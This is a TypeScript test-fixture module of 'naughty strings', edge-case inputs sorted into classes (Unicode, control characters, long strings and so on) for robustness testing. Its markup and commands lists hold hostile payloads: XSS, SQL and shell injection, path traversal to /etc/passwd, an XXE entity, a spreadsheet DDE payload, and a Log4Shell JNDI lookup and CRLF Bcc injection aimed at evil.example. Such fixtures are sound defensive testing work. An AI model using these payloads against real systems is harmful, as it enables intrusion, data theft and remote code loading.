import publicList from 'big-list-of-naughty-strings';

const from = (...codes: number[]) => String.fromCodePoint(...codes);
const range = (first: number, last: number) =>
  from(...Array.from({ length: last - first + 1 }, (_, at) => first + at));

/** Texts that break programs, by what they are taken for. Written for this product; the classes are the usual ones. */
const classes: Record<string, string[]> = {
  // biome-ignore format: a list
  words: [
    'undefined', 'null', 'NULL', '(null)', 'nil', 'None', 'NaN', 'Infinity', '-Infinity', 'true', 'FALSE', 'hasOwnProperty',
    'constructor', '__proto__', 'toString', 'then', '[object Object]', 'CON', 'NUL', 'COM1.txt', '.htaccess', 'thumbs.db', 'Null', 'Test',
  ],
  // biome-ignore format: a list
  numbers: [
    '0', '-0', '00', '1e309', '-1e309', '0x7f', '0b1', '1.7976931348623157e+308', '2147483648', '-9223372036854775809', '99999999999999999999',
    '1,000.00', '1.000,00', '１２３', '١٢٣', '೧೨೩', '½', '²', '$1.00', '1/0', '--1', '0..1', '1_000',
  ],
  // biome-ignore format: a list
  punctuation: [
    `'`, '"', `''''"`, '`', '\\', '\\\\', '/', '//', '%', '%%', '&', '&&', '#', '?', ';', ':', '|', '^', '~', '*', '<', '>', '<>', '{}', '[]', '()', '=', '+', '@',
    '<>?:"{}|_+', `,./;'[]\\-=`, '!@#$%^&*()', '“”‘’«»', '…—–·•', '¡¢£¤¥§©®¶', 'Ω≈ç√∫˜µ≤≥÷', '₹ 1,20,00,000', '\\u0041', '\\x41', '\\n', '\\0',
  ],
  // biome-ignore format: a list
  scripts: [
    'ಉಡುಪಿ ಕಡಲತೀರ', 'उडुपी में घर', 'വീട്', 'வீடு', '社會科學院', '찦차를 타고', '田中さんにあげて', 'מבחן', 'مرحبا بالعالم', 'ภาษาไทย',
    'Ḽơᶉëᶆ ȋṕšᶙṁ', 'ЁЂЃЄЅІЇЈЉЊ', 'İstanbul ıI', 'ß ẞ ŉ ǰ', 'ﬁ ﬂ ﬃ', 'e\u0301 é', 'Å Å', '𝕬𝖗𝖊𝖈𝖆', 'Ｆｕｌｌ　ｗｉｄｔｈ', '⒯⒣⒠', 'ʇdᴉɹɔs', 'Ṱ̺̺̕o͞ ̷i̲̬͇̪', '𠜎𠜱𠝹',
  ],
  // biome-ignore format: a list
  emoji: ['😀', '👩‍👩‍👧‍👦', '👍🏽', '🇮🇳', '❤️', '1️⃣2️⃣', '🏳️‍🌈', '☃', '( ͡° ͜ʖ ͡°)', '(╯°□°）╯︵ ┻━┻', 'ಠ_ಠ', '👾'.repeat(30)],
  invisible: [
    '\u200b',
    'a\u200bb',
    '\u200d\u200c',
    '\ufeff',
    '\ufeffa',
    '\u2060',
    '\u00ad',
    '\u180e',
    '\u3000',
    '\u00a0',
    '\u2028',
    'a\u2029b',
    '\u202ea\u202c',
    '\u2066a\u2069',
    '\u200fa',
    '\u061c',
    '\ufffe',
    '\uffff',
    '\ufffd',
    from(0xe0001),
    from(0x10ffff),
    '\ue000',
    range(0xfe00, 0xfe0f),
    `a${'\u0300'.repeat(40)}`,
  ],
  control: [
    range(0x01, 0x08),
    '\u0000',
    'a\u0000b',
    '\u0007',
    '\u001b[31mred\u001b[0m',
    '\u007f',
    range(0x80, 0x9f),
    '\t',
    'a\tb',
    '\v\f',
    '\r',
    'a\r\nb',
    '\n\n',
    ' ',
    '   a   ',
  ],
  // biome-ignore format: a list
  markup: [
    '<script>alert(1)</script>', '"><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', "' onmouseover='alert(1)", 'javascript:alert(1)',
    '<a href="javascript&#58;alert(1)">a</a>', '<iframe src="data:text/html,x">', '</textarea><script>x</script>', '</title><b>', '<!--', '-->', ']]>', '<![CDATA[x]]>', '<?xml version="1.0"?>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', '&lt;b&gt;', '&amp;amp;', '&#0;', '<style>*{display:none}</style>', '<plaintext>', '<base href=//evil.example>', '{{7*7}}', '\u0024{7*7}', '<%= 7*7 %>', '#{7*7}',
    '[a](javascript:x)', '$$HOME', '</script><script>',
  ],
  // biome-ignore format: a list
  commands: [
    "'; drop table project; --", "' or '1'='1", "1' union select null --", "\\'; select pg_sleep(5) --", '$(touch /tmp/x)', '`id`', '| id', '; id', '&& id', '%s%s%n', '%d', '%*.*s', '{0}', '../../etc/passwd',
    '..\\..\\windows\\win.ini', '/dev/null; id', 'file:///etc/passwd', '%2e%2e%2f', '%00', '%ff', '%u0041', '+', 'a+b=c&d', '=1+1', '@SUM(1)', '-2+3', "=cmd|' /C calc'!A0", '\u0024{jndi:ldap://evil.example/a}',
    'a\r\nBcc: b@evil.example', 'a\nSet-Cookie: b=c', '() { :; }; id', '{"$gt":""}', '{"__proto__":{"a":1}}', '[1,2', '(a+)+$', '.*', '^', 'LIKE %_\\', '&:*|!()<->', 'a & b | !c',
  ],
  // Past many limits, and one past some.
  long: ['a'.repeat(161), 'ab '.repeat(400), '😀'.repeat(100), '<b>'.repeat(120), 'x'.repeat(5000)],
  // Of characters, which are no text.
  halves: ['\ud800', 'a\udc00b', '\udfff\ud800'],
};

export const naughtyStrings: string[] = Object.values(classes).flat();

/** The list that many projects share. */
export const publicNaughtyStrings: string[] = publicList;

const few = 2;
/** Some of each class, for every run of the tests. */
export const fewNaughtyStrings: string[] = Object.values(classes).flatMap((list) => {
  const step = Math.floor(list.length / few);
  return list.filter((_, at) => at % step === step - 1).slice(0, few);
});
